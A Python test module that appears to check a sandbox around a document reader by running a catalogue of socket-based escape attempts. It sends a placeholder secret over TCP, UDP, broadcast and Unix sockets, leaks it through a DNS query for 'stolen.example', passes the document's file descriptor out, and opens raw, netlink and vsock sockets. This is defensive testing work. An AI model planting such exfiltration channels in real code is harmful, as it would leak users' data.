"""Attacks through sockets."""

from __future__ import annotations

import array
import os
import socket

from tests.fakes.hostile_reader.targets import Attack, Targets, call

SECRET = b"stolen"


def connect_tcp(targets: Targets) -> None:
    with socket.create_connection(("127.0.0.1", targets.tcp_port), 2) as connection:
        connection.sendall(SECRET)


def send_udp(targets: Targets, address: str = "127.0.0.1") -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.sendto(SECRET, (address, targets.udp_port))


def ask_for_a_name(targets: Targets) -> None:
    """A DNS query as a resolver sends it, to a server on this machine."""
    query = b"\x12\x34\x01\0\0\1\0\0\0\0\0\0\6stolen\7example\0\0\1\0\1"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.sendto(query, ("127.0.0.1", targets.udp_port))


def connect_unix(address: str) -> None:
    with socket.socket(socket.AF_UNIX) as connection:
        connection.connect(address)
        connection.sendall(SECRET)


def listen(targets: Targets) -> None:
    with socket.socket() as server:
        server.bind(("127.0.0.1", 0))
        server.listen()


def pass_document_on(targets: Targets) -> None:
    """Send the document back through the channel from which it came."""
    for descriptor in range(3, 16):
        try:
            channel = socket.socket(fileno=os.dup(descriptor))
        except OSError:
            continue
        channel.sendmsg([SECRET], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [targets.document]))])
        return
    raise OSError("no socket")


ATTACKS: dict[str, Attack] = {
    "connect by TCP": connect_tcp,
    "send by UDP": send_udp,
    "send by broadcast": lambda targets: send_udp(targets, "255.255.255.255"),
    "ask for a name by DNS": ask_for_a_name,
    "resolve a name": lambda targets: socket.getaddrinfo("stolen.example", 80),
    "connect by TCP over IPv6": lambda targets: socket.create_connection(("::1", targets.tcp_port), 2),
    "connect to the control socket": lambda targets: connect_unix(targets.socket),
    "connect to an abstract socket": lambda targets: connect_unix("\0" + targets.abstract_socket),
    "listen": listen,
    "open a raw socket": lambda targets: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),
    "open a packet socket": lambda targets: socket.socket(17, socket.SOCK_RAW),
    "talk to the kernel": lambda targets: socket.socket(16, socket.SOCK_RAW),
    "open a virtual machine's socket": lambda targets: socket.socket(40, socket.SOCK_STREAM),
    "make a pair of sockets": lambda targets: socket.socketpair(),
    "pass the document on": pass_document_on,
    "open a ring of calls": lambda targets: call("io_uring_setup", 8, bytes(120)),
}
